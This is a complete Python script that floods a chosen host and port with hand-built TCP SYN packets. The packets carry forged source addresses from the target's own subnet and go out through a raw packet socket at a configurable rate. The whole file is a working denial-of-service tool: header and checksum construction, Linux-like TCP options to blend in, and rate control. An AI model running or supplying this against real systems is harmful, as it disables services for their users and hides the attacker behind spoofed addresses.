#!/usr/bin/python3
"""Sends a bounded number of SYNs with invented sources through a packet socket. Needs root.

    syn_flood.py --interface eth0 --target ADDRESS --port 80 --count 20000 --rate 5000 [--seed 1]

The sources are of the target's own network (/24, or /64 of IPv6) and never answer.
"""
import argparse
import ipaddress
import random
import socket
import struct
import subprocess
import time

BATCH = 50
# MSS 1460, SACK permitted, timestamps, no operation, window scale 7: as Linux sends it.
OPTIONS = bytes.fromhex("020405b40402080a" "00000001" "00000000" "01030307")


def arguments():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--interface", required=True)
    parser.add_argument("--target", required=True, type=ipaddress.ip_address)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--count", type=int, required=True)
    parser.add_argument("--rate", type=int, default=5000)
    parser.add_argument("--seed", type=int, default=1)
    return parser.parse_args()


def link_address(text):
    return bytes(int(part, 16) for part in text.split(":"))


def own_link_address(interface):
    with open(f"/sys/class/net/{interface}/address", encoding="ascii") as file:
        return link_address(file.read().strip())


def link_address_of(target, interface):
    """From the kernel's neighbour table, which an ordinary connection has filled before."""
    out = subprocess.run(["ip", "neigh", "show", str(target), "dev", interface],
                         capture_output=True, text=True, check=True).stdout
    return link_address(out.split("lladdr ")[1].split()[0])


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xffff:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def ip_header(source, target, length):
    if target.version == 6:
        return struct.pack(">IHBB", 6 << 28, length, 6, 64) + source + target.packed
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + length, 1, 0x4000, 64, 6, 0) + source + target.packed
    return header[:10] + struct.pack(">H", checksum(header)) + header[12:]


def syn(options, chance):
    target = options.target
    host_bits = 64 if target.version == 6 else 8
    network = int(target) >> host_bits << host_bits
    low = 3 + chance.randrange(60) if target.version == 4 else chance.getrandbits(64) | 1 << 40
    source = (network + low).to_bytes(len(target.packed), "big")
    segment = struct.pack(">HHIIBBHHH", chance.randrange(1024, 65536), options.port,
                          chance.getrandbits(32), 0, 10 << 4, 2, 64240, 0, 0) + OPTIONS
    pseudo = source + target.packed + struct.pack(">II", len(segment), 6)
    segment = segment[:16] + struct.pack(">H", checksum(pseudo + segment)) + segment[18:]
    return ip_header(source, target, len(segment)) + segment


def main():
    options = arguments()
    chance = random.Random(options.seed)
    ethertype = 0x86dd if options.target.version == 6 else 0x0800
    ethernet = (link_address_of(options.target, options.interface) +
                own_link_address(options.interface) + struct.pack(">H", ethertype))
    sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sender.bind((options.interface, 0))
    begin = time.monotonic()
    for number in range(options.count):
        if number % BATCH == 0:
            time.sleep(max(0, begin + number / options.rate - time.monotonic()))
        sender.send(ethernet + syn(options, chance))
    print(f"sent {options.count}")


if __name__ == "__main__":
    main()
